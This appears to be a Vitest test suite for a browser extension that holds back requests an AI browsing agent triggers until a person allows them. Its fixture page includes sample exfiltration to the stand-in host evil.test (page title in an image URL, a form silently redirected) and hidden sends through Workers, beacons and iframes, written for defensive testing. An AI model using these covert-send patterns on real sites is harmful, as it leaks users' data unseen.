import { beforeAll, expect, test } from 'vitest';
import { ADDRESSES } from '../../../extension/body/network/held.ts';
import { conditionFor, lookups } from '../../../extension/body/network/hold-back.ts';
import type { Settings } from '../../../extension/memory/settings.ts';
import { askAndAnswer } from '../../support/browser/start-talks.ts';
import { type Scene, startWaymark } from '../../support/browser/start-waymark.ts';
import { scriptedModel } from '../../support/servers/scripted-model.ts';
import { call, press, type Received, type Script, say, uidOf } from '../../support/servers/scripted-server.ts';

const waymark = startWaymark();
const server = scriptedModel();
/** What arrived at the sites, such as `POST shop.test/api/place-order`. */
const arrived: string[] = [];

/** An editor that stores a draft while one types, and deletes it when the note is saved; `?other` deletes another note. */
const EDITOR = `<!doctype html><title>Notes</title><h1>Notes</h1><label>Note <input></label><button>Save</button>
<script>
  const at = (list, name) => '/' + list + '/' + encodeURIComponent(name);
  document.querySelector('input').addEventListener('input', () => fetch(at('all', "Draft of 'Note'"), { method: 'PUT' }));
  document.querySelector('button').addEventListener('click', async () => {
    await fetch(at('all', 'Note'), { method: 'PUT' });
    await fetch(at('bin', location.search === '?other' ? 'Diary' : "Draft of 'Note'"), { method: 'DELETE' });
  });
</script>`;

/** An address that stands in one piece in a script is read beforehand, and asked about. */
const PAGE = `<!doctype html><title>Shop</title><h1>Shop</h1>
<button onclick="fetch('/api/place' + '-order', { method: 'POST', body: 'mug' })">More</button>
<button onclick="setTimeout(() => fetch('/api/place' + '-order', { method: 'POST' }), 300)">Later</button>
<button onclick="fetch('/api/views', { method: 'POST' })">Show</button>
<button onclick="new Image().src = 'http://evil.test/?' + document.title">Picture</button>
<button onclick="document.querySelector('form').submit()">Tab</button>
<button onclick="document.forms[1].submit()">Plain</button><form method="post" action="/send-it" target="elsewhere"><input type="hidden" name="a" value="b"></form>
<form method="post" action="/plain"></form>
<button onclick="fetch('/api/items/' + 7, { method: 'DELETE' })">Tidy</button>
<button onclick="fetch('/api/' + 'sell?id=7', { method: 'POST' })">Wave</button>
<button onclick="fetch('/api/' + 'tokens', { method: 'POST' })">Mint</button>
<button onclick="fetch('/api/runs/' + 'search?page=1', { method: 'POST' })">Sieve</button>
<a href="/list">Take</a>
<a href="/?chatty">More things</a>
<button onclick="fetch('/api/' + 'panel/1207', { method: 'POST' })">Burrow</button>
<button onclick="fetch('/settings/' + 'save_tree_state/', { method: 'POST' })">Perch</button>
<button onclick="fetch('/mail.php?task=mail&_act' + 'ion=autocomplete', { method: 'POST' })">Riddle</button>
<button onclick="fetch('/api/' + 'save-search', { method: 'POST' })">Hoard</button>
<button onclick="fetch('/api/' + 'usual', { method: 'POST' })">Tally</button>
<button onclick="fetch('/do/' + 'rpc', { method: 'POST', body: 'moult' })">Moult</button>
<button onclick="ask('query Boats { boats }')">Peep</button><button onclick="ask('mutation Sink { sink }')">Peck</button>
<button onclick="fetch('http://stats.test/' + 'seen', { method: 'POST', mode: 'no-cors' })">Preen</button>
<button onclick="frames[0].HTMLFormElement.prototype.submit.call(document.forms[1])">Frame</button>
<button onclick="frames[0].HTMLFormElement.prototype.submit.call(queue.form)">Echo</button><iframe srcdoc="<p>Frame"></iframe>
<form id="quick" role="search" action="/found"><button>Look up</button></form><form method="post" action="/noted"><button>Keep</button></form>
<form method="post" action="/chosen"><label>Size <select><option>Small</option><option>Large</option></select></label><label>Code <input></label>
<label><input type="checkbox"> Gift</label></form>
<form method="post" action="/found" role="search"><label>Sorted by <select><option>Name</option><option>Price</option></select></label></form>
<form method="post" action="/done"><label>Action <select><option>Keep them</option><option>Delete them</option></select></label><button>Go</button></form>
<label><input type="checkbox" onchange="fetch('/api/ajar-' + this.checked, { method: 'POST' })"> Ajar</label>
<label>Crate <select id="crate"><option>beans</option><option>kale</option></select></label>
<div role="switch" aria-checked="false" tabindex="0" onclick="this.ariaChecked = this.ariaChecked !== 'true'; fetch('/api/lamp-' + this.ariaChecked, { method: 'POST' })">Lamp</div>
<label>Jotting <input oninput="clearTimeout(window.saving); saving = setTimeout(() => fetch('/api/' + 'jotting', { method: 'PUT' }), 2000)"></label>
<label>Margin <input onblur="fetch('/api/' + 'margin', { method: 'PUT' })"></label>
<label>Ledger <input oninput="setTimeout(() => fetch('/api/' + 'ledger', { method: 'PUT' }), 5000)"></label>
<label>Footing <input id="footing"></label>
<label>Berth <input id="berth" role="combobox" aria-expanded="false" onfocus="offerBerths()"></label>
<ul id="offer" role="listbox" hidden><li role="option" onclick="document.querySelector('#outcome').textContent = 'North 4 chosen'; offer.hidden = true">North 4</li></ul>
<p id="outcome"></p><button id="fledge">Fledge</button><button id="roost">Roost</button><button id="flock">Flock</button>
<form role="search"><input aria-label="Find it"></form>
<form method="post" action="/"><label>Queue <select id="queue"><option>North</option><option>South</option></select></label><input type="search" aria-label="Find a queue">
<label>Subject <input></label><label>Due <input type="date"></label><button>Create ticket</button></form>
<a id="swerve" href="/swerved" data-method="post">Swerve</a><a id="swoop" href="/swooped" data-method="post" data-remote="true">Swoop</a>
<button id="beam">Beam</button><button id="spawn">Spawn</button><button id="sift">Sift</button><button id="veer">Veer</button>
<iframe sandbox="allow-scripts" srcdoc="<script>onmessage = ({ data }) => fetch(data, { method: 'POST', mode: 'no-cors' })</script>"></iframe>
<script>
  const post = 'fetch("http://shop.test/api/' + 'spawn", { method: "POST", mode: "no-cors" })';
  // As many clients do, this one keeps the function of the browser, and the page what the list holds.
  const send = window.fetch;
  let held = 'beans';
  document.querySelector('#crate').onchange = ({ target: { value } }) => {
    if (value === held) return;
    held = value;
    send('/api/' + 'crate-' + value, { method: 'POST' }).catch(() => {});
  };
  const offerBerths = () =>
    fetch('/api/' + 'berths', { method: 'POST' }).then(() => {
      document.querySelector('#offer').hidden = false;
      document.querySelector('#berth').ariaExpanded = 'true';
    });
  const told = (text) => () => { document.querySelector('#outcome').textContent = text; };
  const presses = {
    fledge: () => fetch('/api/' + 'fledge', { method: 'POST', body: '{}' }).then(told('kept'), told('lost')),
    roost: () => {
      const request = new XMLHttpRequest();
      request.onload = told('kept');
      request.onerror = told('lost');
      request.open('POST', '/api/' + 'roost');
      request.send('{}');
    },
    flock: () => {
      navigator.sendBeacon('/api/' + 'flown', '1');
      return presses.fledge();
    },
    beam: () => navigator.sendBeacon('/api/beam', '1'),
    spawn: () => new Worker(URL.createObjectURL(new Blob([post]))),
    sift: () => frames[1].postMessage('http://shop.test/api/sift', '*'),
    swerve: (event) => {
      event.preventDefault();
      if (!confirm('Are you sure?')) return;
      const form = Object.assign(document.createElement('form'), { method: 'post', action: '/swerved' });
      document.body.append(form);
      form.submit();
    },
    swoop: (event) => {
      event.preventDefault();
      fetch('/swooped', { method: 'POST' });
    },
    veer: () => confirm('Veer?') && fetch('/api/veer', { method: 'POST' }),
  };
  for (const id in presses) document.getElementById(id).addEventListener('click', presses[id]);
  const ask = (query) => fetch('/do/' + 'everything', { method: 'POST', body: JSON.stringify({ query }) });
  if (location.search === '?chatty') ask('query Me { me }');
  const chat = () => fetch('/api/usual', { method: 'POST' });
  addEventListener('beforeunload', () => footing.value === '' || fetch('/api/footing', { method: 'POST', keepalive: true }));
  if (location.search === '?chatty') chat();
  if (location.search === '?chatty') fetch('/do/rpc', { method: 'POST', body: 'list' });
  if (location.search === '?polls') setInterval(chat, 500);
  const [, , quick, , chosen, found, bulk] = document.forms;
  quick.addEventListener('submit', () => Object.assign(quick, { method: 'post', action: 'http://evil.test/swapped' }));
  chosen.querySelector('select').addEventListener('change', () => chosen.requestSubmit());
  chosen.querySelector('input').addEventListener('input', () => chosen.submit());
  chosen.querySelector('[type=checkbox]').addEventListener('change', () => HTMLFormElement.prototype.submit.call(chosen));
  found.querySelector('select').addEventListener('change', () => found.requestSubmit());
  queue.addEventListener('change', () => queue.form.submit());
  bulk.querySelector('select').addEventListener('change', () => fetch('/api/' + 'gone', { method: 'POST' }));
</script>`;

beforeAll(async () => {
  const { context } = waymark.launched();
  for (const host of ['shop.test', 'evil.test', 'stats.test', 'notes.test'])
    await context.route(`http://${host}/**`, async (route) => {
      const { pathname, hostname } = new URL(route.request().url());
      if (pathname !== '/' || route.request().method() === 'POST' || !/^(?:shop|notes)\.test$/u.test(hostname))
        arrived.push(`${route.request().method()} ${hostname}${pathname}`);
      await route.fulfill({
        contentType: 'text/html',
        headers: pathname === '/list' ? { 'content-disposition': 'attachment; filename="moorings.csv"' } : {},
        body: pathname !== '/' ? 'ok' : hostname === 'notes.test' ? EDITOR : PAGE,
      });
    });
});

async function scene(button: string, strict: Settings['strict']['where'] = 'nowhere'): Promise<Scene> {
  arrived.length = 0;
  server.answer(press(button), press(button), say('Done.'));
  const model = server.settings;
  return await waymark.scene('http://shop.test/', {
    approval: 'ask',
    settings: { ...model, strict: { where: strict, sites: [] } },
  });
}

test.each([
  ['the draft that the task stored may go', '', 'DELETE notes.test/bin/Draft%20of%20%27Note%27'],
  ['another note may not go', '?other', 'PUT notes.test/all/Note'],
])('when a note is saved, %s', async (_, search, last) => {
  arrived.length = 0;
  server.answer(call('type', { ref: 'Note', text: 'Tide' }), call('wait', { number: 1 }), press('Save'), say('Done.'));
  const shown = await waymark.scene(`http://notes.test/${search}`, { approval: 'task', settings: server.settings });
  await shown.ask('Write Tide into the note and save it.');
  expect(arrived.map((each) => each.replaceAll("'", '%27')).at(-1), await shown.story()).toBe(last);
});

test.each(['More', 'Later'])('the task stops when “%s” sends what it does not say', async (button) => {
  const shown = await scene(button);
  server.answer(press(button), call('wait', { seconds: 1 }), say('Done.'));
  const last = await shown.ask('Show me more');
  expect(last).toContain('POST http://shop.test/api/place-order');
  expect(arrived[0]).toBe('POST shop.test/api/place-order');
  expect((await shown.turns()).at(-2)).toMatchObject({ type: 'browser' });
});

test('what “Later” sends is told where the model answers at once too', async () => {
  const shown = await scene('Later');
  server.answer(press('Later'), say('Done.'));
  const last = await shown.ask('Show me more');
  expect(last, await shown.story()).toContain('POST http://shop.test/api/place-order');
});

test('a request that names no deed is shown with its step, and stops nothing', async () => {
  const shown = await scene('Show');
  server.answer(press('Show'), say('Done.'));
  expect(await shown.ask('Show it')).toBe('Done.');
  const [, step] = await shown.turns();
  expect(step).toMatchObject({
    effects: [{ method: 'POST', origin: 'http://shop.test', path: '/api/views', size: 0 }],
  });
  await shown.panel.locator('.step').first().locator('summary').click();
  expect(await shown.panel.locator('.details').first().innerText()).toContain('POST http://shop.test/api/views');
  expect(await shown.panel.getByText('Sites of this task: shop.test').count()).toBe(1);
});

test.each([
  ['Tab', 'POST shop.test/send-it'],
  ['Plain', 'POST shop.test/plain'],
  ['Look up', 'POST evil.test/swapped'],
  ['Tidy', 'DELETE shop.test/api/items/7'],
  ['Wave', 'POST shop.test/api/sell'],
  ['Mint', 'POST shop.test/api/tokens'],
  ['Beam', 'POST shop.test/api/beam'],
  ['Spawn', 'POST shop.test/api/spawn'],
  ['Sift', 'POST shop.test/api/sift'],
])('what nothing on “%s” announces does not arrive before a person allows it', async (button, sent) => {
  const denied = await scene(button);
  server.answer(press(button), say('Done.'));
  const [question] = await askAndAnswer(denied, 'Show me more', [false]);
  expect(question, await denied.story()).toContain(sent.replace(' ', ' http://'));
  expect(arrived).toEqual([]);
  expect(await denied.tab.locator('h1').innerText()).toBe('Shop');

  const allowed = await scene(button);
  server.answer(press(button), say('Done.'));
  await askAndAnswer(allowed, 'Show me more', [true]);
  expect(arrived).toEqual([sent]);
});

test('what was allowed once asks again at the next press', async () => {
  const shown = await scene('Wave');
  server.answer(press('Wave'), call('wait', { number: 3 }), press('Wave'), say('Done.'));
  expect(await askAndAnswer(shown, 'Show me more', [true, false]), await shown.story()).toHaveLength(2);
  expect(arrived).toEqual(['POST shop.test/api/sell']);
});

test('the OK of a dialog writes nothing that the button behind it may not write', async () => {
  const shown = await scene('Veer');
  server.answer(press('Veer'), press('OK'), say('Done.'));
  const [question] = await askAndAnswer(shown, 'Show me more', [false]);
  expect(question, await shown.story()).toContain('POST http://shop.test/api/veer');
  expect(arrived).toEqual([]);
});

test.each([
  ['Swerve', [press('Swerve'), press('OK')]],
  ['Swoop', [press('Swoop')]],
])('“%s”, a link that a script sends by POST, does nothing for a question', async (_, steps) => {
  arrived.length = 0;
  server.answer(...steps, say('Done.'));
  const shown = await waymark.scene('http://shop.test/', { approval: 'task', settings: server.settings });
  await shown.ask('Which mugs are there?');
  expect(arrived, await shown.story()).toEqual([]);
});

test.each([
  ['was named', 'Mint', 'Mint a token', 'POST shop.test/api/tokens'],
  ['writes to another site only', 'Preen', 'Show me more', 'POST stats.test/seen'],
])('a button that nobody knows asks nothing where it %s', async (_, button, request, sent) => {
  const shown = await scene(button);
  server.answer(press(button), say('Done.'));
  expect(await askAndAnswer(shown, request, []), await shown.story()).toEqual([]);
  expect(arrived).toEqual([sent]);
});

test.each([
  ['Sieve', 'api/runs/search'],
  ['Burrow', 'api/panel/1207'],
  ['Perch', 'settings/save_tree_state/'],
  ['Riddle', 'mail.php'],
])('what a button that nobody knows looks up passes, and how it keeps the page: %s', async (button, path) => {
  const shown = await scene(button);
  server.answer(press(button), say('Done.'));
  expect(await askAndAnswer(shown, 'Show me more', []), await shown.story()).toEqual([]);
  expect(arrived).toEqual([`POST shop.test/${path}`]);
});

test.each([...lookups('http://shop.test').map((passing) => conditionFor(passing).regexFilter ?? ''), ...ADDRESSES])(
  'the browser takes the rule %s',
  async (regex) => {
    const worker = await waymark.launched().worker();
    const taken = await worker.evaluate(
      (rule) => chrome.declarativeNetRequest.isRegexSupported({ regex: rule, isCaseSensitive: false }),
      regex,
    );
    expect(taken.isSupported).toBe(true);
  },
);

test('the model hears of a file that the browser saves', async () => {
  const shown = await scene('Take');
  const seen: string[] = [];
  server.answer(press('Take'), (received: Received) => {
    seen.push(JSON.stringify(received));
    return say('Done.');
  });
  await askAndAnswer(shown, 'Show me more', []);
  expect(seen.join('\n'), await shown.story()).toContain('the browser saved “moorings.csv”');
});

test('what a button that nobody knows keeps does not pass', async () => {
  const denied = await scene('Hoard');
  server.answer(press('Hoard'), say('Done.'));
  expect(await askAndAnswer(denied, 'Show me more', [false]), await denied.story()).toHaveLength(1);
  expect(arrived).toEqual([]);
});

test('what a page sends by itself passes when a button that nobody knows sends it', async () => {
  const shown = await scene('Tally');
  server.answer(call('load', { text: 'http://shop.test/?chatty' }), press('Tally'), say('Done.'));
  expect(await askAndAnswer(shown, 'Go to http://shop.test/?chatty', []), await shown.story()).toEqual([]);
  expect(arrived.filter((each) => each.endsWith('/usual'))).toHaveLength(2);
});

test('what a page asks an address for everything as it loads lets nothing else pass there', async () => {
  const denied = await scene('Moult');
  server.answer(call('load', { text: 'http://shop.test/?chatty' }), press('Moult'), say('Done.'));
  expect(await askAndAnswer(denied, 'Go to http://shop.test/?chatty', [false]), await denied.story()).toHaveLength(1);
  expect(arrived.filter((each) => each.endsWith('/rpc'))).toHaveLength(1);
});

test.each([
  ['Peep', 0, 2],
  ['Peck', 1, 1],
])('at an address for everything the body tells whether “%s” only asks', async (button, questions, sent) => {
  const shown = await scene(button);
  server.answer(call('load', { text: 'http://shop.test/?chatty' }), press(button), say('Done.'));
  const asked = await askAndAnswer(shown, 'Go to http://shop.test/?chatty', questions === 0 ? [] : [false]);
  expect(asked, await shown.story()).toHaveLength(questions);
  expect(arrived.filter((each) => each.endsWith('/everything'))).toHaveLength(sent);
});

test('so does what a page sends as it loads after a press', async () => {
  const shown = await scene('Tally');
  server.answer(press('More things'), press('Tally'), say('Done.'));
  expect(await askAndAnswer(shown, 'Show me more things', []), await shown.story()).toEqual([]);
  expect(arrived.filter((each) => each.endsWith('/usual'))).toHaveLength(2);
});

test('so does what a page sends again and again, long after a press', async () => {
  arrived.length = 0;
  const later = { kind: 'text', text: '[{"do":"click","ref":"Burrow"}]', delayMs: 3_000 } as const;
  server.answer(press('Sieve'), later, press('Tally'), say('Done.'));
  const settings = { ...server.settings, strict: { where: 'nowhere', sites: [] } } as const;
  const shown = await waymark.scene('http://shop.test/?polls', { approval: 'ask', settings });
  expect(await askAndAnswer(shown, 'Show me more', []), await shown.story()).toEqual([]);
  expect(arrived.filter((each) => each.endsWith('/usual')).length).toBeGreaterThan(3);
});

test.each([
  ['Ajar', 'a box'],
  ['Lamp', 'a switch of a script'],
])('%s, %s that the page shows turned while its request waits, is turned once it is allowed', async (name) => {
  const shown = await scene(name);
  server.answer(call('change', { text: 'true', ref: name }), say('Done.'));
  expect(await askAndAnswer(shown, 'Show me more', [true]), await shown.story()).toHaveLength(1);
  expect(arrived, await shown.story()).toEqual([`POST shop.test/api/${name.toLowerCase()}-true`]);
});

test('a list whose page takes the same choice for none is set anew once it is allowed', async () => {
  const shown = await scene('Crate');
  server.answer(call('change', { text: 'kale', ref: 'Crate' }), say('Done.'));
  expect(await askAndAnswer(shown, 'Show me more', [true]), await shown.story()).toHaveLength(1);
  expect(arrived, await shown.story()).toEqual(['beans', 'kale'].map((crop) => `POST shop.test/api/crate-${crop}`));
});

test('a choice whose list waits for a request is made once that is allowed', async () => {
  const shown = await scene('More');
  server.answer(call('change', { ref: 'Berth', text: 'North 4' }), say('Done.'));
  expect(await askAndAnswer(shown, 'Show me more', [true]), await shown.story()).toHaveLength(1);
  expect(await shown.tab.locator('#outcome').innerText(), await shown.story()).toBe('North 4 chosen');
  expect(arrived).toContain('POST shop.test/api/berths');
});

test('what a page saves by itself some seconds after a text that nobody asked for waits for an answer', async () => {
  const denied = await scene('Jotting');
  server.answer(call('type', { ref: 'Jotting', text: 'x' }), say('Done.'));
  const [question] = await askAndAnswer(denied, 'Show me more', [false]);
  expect(question, await denied.story()).toContain('PUT http://shop.test/api/jotting');
  expect(arrived).toEqual([]);
});

test.each<[string, Parameters<typeof server.answer>]>([
  ['Margin', [press('Find it')]],
  ['Ledger', [call('wait', { number: 6 }), press('Find it')]],
  ['Footing', [call('load', { url: 'http://shop.test/elsewhere' })]],
])('what a page saves of “%s” at a later step, nobody asked for it', async (field, later) => {
  const looked = await scene('More');
  server.answer(call('type', { ref: field, text: 'x' }), ...later, say('Done.'));
  await askAndAnswer(looked, 'Show me more', [false, false]);
  expect(
    arrived.filter((each) => each.startsWith('P')),
    await looked.story(),
  ).toEqual([]);
  const asked = await scene('More');
  server.answer(call('type', { ref: field, text: 'x' }), ...later, say('Done.'));
  await askAndAnswer(asked, `Write x into ${field}`, []);
  expect(arrived, await asked.story()).toContainEqual(expect.stringMatching(`/${field.toLowerCase()}$`));
});

test('a number that nobody said is not kept as its field is left, where the request is about another field', async () => {
  const shown = await scene('More');
  const write = (text: string) => call('type', { ref: 'Margin', text });
  server.answer(write('7777'), press('Find it'), say('Done.'));
  const questions = await askAndAnswer(shown, 'Set the jotting to 450', [false, false]);
  expect(questions.at(-1), await shown.story()).toContain('PUT http://shop.test/api/margin');
  expect(arrived.filter((each) => each.startsWith('P'))).toEqual([]);
  const asked = await scene('More');
  server.answer(write('450'), press('Find it'), say('Done.'));
  await askAndAnswer(asked, 'Set the margin to 450', []);
  expect(arrived, await asked.story()).toContain('PUT shop.test/api/margin');
});

test.each([
  ['Fledge', 'by fetch', ['fledge']],
  ['Roost', 'by XMLHttpRequest', ['roost']],
  ['Flock', 'beside a beacon', ['flown', 'fledge']],
])('%s: a request %s waits for the answer, and fails only after a no', async (name, _, sent) => {
  const shown = await scene(name);
  server.answer(press(name), press('Burrow'), say('Done.'));
  expect(await askAndAnswer(shown, 'Show me more', [true]), await shown.story()).toHaveLength(1);
  const waited = sent.map((each) => `POST shop.test/api/${each}`);
  expect(arrived, await shown.story()).toEqual([...waited, 'POST shop.test/api/panel/1207']);
  expect(await shown.tab.locator('#outcome').innerText()).toBe('kept');
  const denied = await scene(name);
  server.answer(press(name), say('Done.'));
  expect(await askAndAnswer(denied, 'Show me more', [false]), await denied.story()).toHaveLength(1);
  expect(arrived).toEqual([]);
  expect(await denied.tab.locator('#outcome').innerText()).toBe('lost');
});

test.each([false, true])(
  'a list that sends the form of its page to the same address, with a search in it, waits for the answer: %s',
  async (isAllowed) => {
    const shown = await scene('Queue');
    server.answer(call('change', { ref: 'Queue', text: 'South' }), say('Done.'));
    expect(await askAndAnswer(shown, 'Show me more', [isAllowed]), await shown.story()).toHaveLength(1);
    expect(arrived).toEqual(isAllowed ? ['POST shop.test/'] : []);
    expect(await shown.tab.locator('h1').innerText()).toBe('Shop');
  },
);

test.each([
  ['Frame', 'POST http://shop.test/plain'],
  ['Echo', 'POST http://shop.test/'],
])('a form that a script sends with functions of a new frame is held back by the browser: %s', async (button, sent) => {
  const denied = await scene(button);
  server.answer(press(button), say('Done.'));
  const [question] = await askAndAnswer(denied, 'Show me more', [false]);
  expect(question, await denied.story()).toContain(sent);
  expect(arrived).toEqual([]);
  expect(await denied.tab.locator('h1').innerText()).toBe('Shop');
});

test('a form that is pressed is sent to the address that it shows', async () => {
  const shown = await scene('Keep');
  server.answer(press('Keep'), say('Done.'));
  expect(await askAndAnswer(shown, 'Keep it', []), await shown.story()).toEqual([]);
  expect(arrived).toEqual(['POST shop.test/noted']);
});

test.each([
  ['More', 'POST shop.test/api/place-order'],
  ['Picture', 'GET evil.test/'],
  ['Tab', 'POST shop.test/send-it'],
])('strict: what “%s” sends does not arrive before a person allows it', async (button, sent) => {
  const denied = await scene(button, 'everywhere');
  server.answer(press(button), say('Done.'));
  const [question] = await askAndAnswer(denied, 'Show me more', [false]);
  expect(question).toContain(sent.replace(' ', ' http://'));
  expect(arrived).toEqual([]);

  const allowed = await scene(button, 'everywhere');
  server.answer(press(button), say('Done.'));
  await askAndAnswer(allowed, 'Show me more', [true]);
  expect(arrived).toEqual([sent]);
  const rules = () => allowed.panel.evaluate(async () => (await chrome.declarativeNetRequest.getSessionRules()).length);
  expect(await rules()).toBe(0);
});

test('strict: a form that leads away is sent once it is allowed, from the page as it was', async () => {
  const shown = await scene('Plain', 'everywhere');
  server.answer(press('Plain'), press('Plain'), say('Done.'));
  await askAndAnswer(shown, 'Show me more', [true]);
  expect(arrived, await shown.story()).toEqual(['POST shop.test/plain']);
});

test('strict: rules do not outlive the panel', async () => {
  const shown = await scene('More', 'everywhere');
  server.answer(press('More'), say('Done.'));
  await shown.say('Show me more');
  const worker = await waymark.launched().worker();
  const rules = () => worker.evaluate(async () => (await chrome.declarativeNetRequest.getSessionRules()).length);
  await expect.poll(rules, { interval: 20 }).toBeGreaterThan(0);
  await shown.panel.close();
  await expect.poll(rules).toBe(0);
});

/** Calls a tool on the element of a name. */
const on =
  (name: string, tool: string, given: object) =>
  (request: Received): Script =>
    call(tool, { ref: uidOf(request, name), ...given });

test.each([
  ['a choice', on('Size', 'change', { text: 'Large' })],
  ['text', on('Code', 'type', { text: 'abc' })],
  ['a tick', on('Gift', 'click', {})],
])('a form that a script sends at %s is held back until a person allows it', async (_, step) => {
  const denied = await scene('More');
  server.answer(step, say('Done.'));
  const [question] = await askAndAnswer(denied, 'Fill in the form', [false]);
  expect(question, await denied.story()).toContain('POST http://shop.test/chosen');
  expect(arrived).toEqual([]);
  expect(await denied.tab.locator('h1').innerText()).toBe('Shop');

  const allowed = await scene('More');
  server.answer(step, say('Done.'));
  await askAndAnswer(allowed, 'Fill in the form', [true]);
  await expect.poll(() => arrived, { timeout: 5_000 }).toEqual(['POST shop.test/chosen']);
});

test('choosing what a button will do writes nothing before a person allows it', async () => {
  const shown = await scene('More');
  server.answer(on('Action', 'change', { text: 'Delete them' }), say('Done.'));
  const [question] = await askAndAnswer(shown, 'Show me more', [false]);
  expect(question, await shown.story()).toContain('POST http://shop.test/api/gone');
  expect(arrived).toEqual([]);
});

test('a form that looks something up is sent by a choice', async () => {
  const shown = await scene('More');
  server.answer(on('Sorted by', 'change', { text: 'Price' }), say('Done.'));
  expect(await askAndAnswer(shown, 'Sort by price', []), await shown.story()).toEqual([]);
  expect(arrived).toEqual(['POST shop.test/found']);
});
